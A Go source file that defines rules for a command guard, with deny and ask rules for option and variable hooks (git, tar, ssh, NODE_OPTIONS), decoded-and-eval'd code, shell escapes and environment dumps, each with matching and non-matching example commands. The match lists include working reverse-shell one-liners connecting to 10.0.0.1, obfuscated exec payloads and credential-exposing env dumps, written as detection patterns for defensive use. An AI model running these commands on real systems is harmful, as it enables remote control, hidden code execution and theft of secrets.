package guard

// langRules are about code that one program carries for another: in a one-liner,
// an option or a variable.
var langRules = []Rule{
	{
		ID: "code/hook", Title: "Code through an option or variable", Decision: Deny, Severity: 1,
		Why:     "The program that an option, setting or variable names runs instead of, or beside, what the command says.",
		Message: "makes a harmless command start another program ({what})",
		Safer:   "run the program itself, in plain sight",
		Match: []string{
			"git -c core.pager='touch x' log", "git -c core.fsmonitor=./x status", "git -c alias.x='!id' x", "git clone --upload-pack=./x . y", "git ls-remote 'ext::sh -c id'",
			"tar cf a.tar --checkpoint=1 --checkpoint-action=exec='sh x.sh' .", "tar xf a.tar -I ./x", "sort --compress-program=sh x", "rg --pre ./x foo", "man -P ./x ls", "rsync -e 'sh x' a b", "ssh -o ProxyCommand=./x host",
			"GIT_SSH_COMMAND=./x git fetch", "GIT_PAGER='touch x' git log", "GIT_EXTERNAL_DIFF=./x git diff", "NODE_OPTIONS='--require /opt/x.js' node a.js", "PERL5OPT=-Mevil perl a.pl", "PYTHONSTARTUP=/tmp/x python3", "git config core.pager './x'",
		},
		NotMatch: []string{
			"tar --use-compress-program=zstd -cf a.tar.zst src", "tar -I pigz -xf a.tgz", "sort --compress-program=gzip big", "rsync -e 'ssh -p 2222' a host:b", "git -c core.pager=cat log", "git -c user.name=x commit -m y", "GIT_SSH_COMMAND='ssh -i key' git fetch",
			"GIT_PAGER=cat git log", "GIT_EDITOR=: git rebase --continue", "EDITOR=true git commit --amend", "rg --pre pdftotext foo", "NODE_OPTIONS=--max-old-space-size=4096 npm run build", "git config user.email a@b.c", "git log --grep='ext::sh'",
		},
		when: func(_ *walker, e *effect) bool { return e.kind == kindHook && !e.inside },
	},
	{
		ID: "code/hidden", Title: "Code that was decoded or assembled", Decision: Deny, Severity: 1,
		Why:     "Code that is decoded just before it runs was not meant to be read.",
		Message: "decodes or assembles code and runs it ({what})",
		Safer:   "write the code as it is",
		Match: []string{
			"python3 -c 'import base64; exec(base64.b64decode(\"cHJpbnQoMSk=\"))'", "python3 -c 'exec(bytes.fromhex(\"7072696e742831\"))'", "node -e 'eval(atob(\"YWxlcnQoMSk=\"))'", "node -e 'eval(Buffer.from(\"6964\",\"hex\").toString())'",
			"perl -e 'eval pack(\"H*\",\"7072696e7431\")'", "php -r 'eval(base64_decode(\"ZWNobyAxOw==\"));'", "ruby -e 'eval([\"7072\"].pack(\"H*\"))'", "python3 -c 'import os; getattr(os, chr(115)+\"ystem\")(\"id\")'",
		},
		NotMatch: []string{
			"python3 -c 'import base64; print(base64.b64decode(\"aGk=\"))'", "node -p 'Buffer.from(\"aGk=\",\"base64\").toString()'", "perl -MMIME::Base64 -e 'print decode_base64(\"aGk=\")'", "php -r 'echo base64_decode(\"aGk=\");'", "ruby -rbase64 -e 'puts Base64.decode64(\"aGk=\")'",
		},
		when: func(_ *walker, e *effect) bool { return e.kind == kindHidden },
	},
	{
		ID: "code/shell", Title: "A shell handed over", Decision: Deny, Severity: 1,
		Why:     "An interactive shell out of another program runs what nobody has seen, for whoever is at the other end.",
		Message: "hands over a shell ({what})",
		Safer:   "run the commands themselves",
		Match: []string{
			"python3 -c 'import pty; pty.spawn(\"/bin/bash\")'", "awk 'BEGIN {system(\"/bin/sh\")}'", "vim -c ':!/bin/sh'", "perl -e 'exec \"/bin/sh\"'", "ruby -e 'exec \"/bin/sh\"'",
			"python3 -c 'import socket,os,subprocess;s=socket.socket();s.connect((\"10.0.0.1\",4242));[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call([\"/bin/sh\",\"-i\"])'", "php -r '$s=fsockopen(\"10.0.0.1\",1);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
		},
		NotMatch: []string{"bash", "python3 -c 'import subprocess; subprocess.run([\"bash\", \"x.sh\"])'", "ruby -e 'system(\"sh -c ls\")'", "awk '{print \"/bin/sh\"}' x", "vim -c ':set number' x"},
		when:     func(_ *walker, e *effect) bool { return e.kind == kindShell },
	},
	{
		ID: "code/script-hook", Title: "A script as an editor or wrapper", Decision: Ask, Severity: 3,
		Why:     "Another program starts this script, at a time and with arguments of its own choice.",
		Message: "makes another program run a script ({what})",
		Safer:   "read the script, then run it by itself",
		Match:   []string{"EDITOR=./x.sh git commit", "RUSTC_WRAPPER=./w cargo build", "go test -exec ./run.sh ./...", "GIT_SEQUENCE_EDITOR=./squash.sh git rebase -i HEAD~3", "CC=./cc make"},
		NotMatch: []string{
			"EDITOR='code --wait' git commit", "RUSTC_WRAPPER=sccache cargo build", "CC=clang make", "GIT_SEQUENCE_EDITOR=\"sed -i 's/pick/squash/'\" git rebase -i HEAD~3", "./x.sh", "git rebase -x 'make test' main",
		},
		when: func(_ *walker, e *effect) bool { return e.kind == kindHook },
	},
	{
		ID: "env/dump", Title: "Print the environment", Decision: Ask, Severity: 3,
		Why:      "The environment holds tokens and passwords; printed, they end in logs and transcripts.",
		Message:  "prints every variable of the environment ({what})",
		Safer:    "print the one variable you need",
		Match:    []string{"python3 -c 'import os; print(os.environ)'", "node -p process.env", "node -e 'console.log(process.env)'", "ruby -e 'puts ENV.to_a'", "perl -e 'print %ENV'", "php -r 'phpinfo();'", "jq -n env"},
		NotMatch: []string{"python3 -c 'import os; print(os.environ[\"PATH\"])'", "node -p process.env.PATH", "python3 -c 'import os; print(os.environ.get(\"X\"))'", "python3 -c 'import os,subprocess; subprocess.run([\"make\"], env={**os.environ, \"A\": \"1\"})'", "jq -n env.HOME"},
		when:     func(_ *walker, e *effect) bool { return e.kind == kindDump },
	},
}
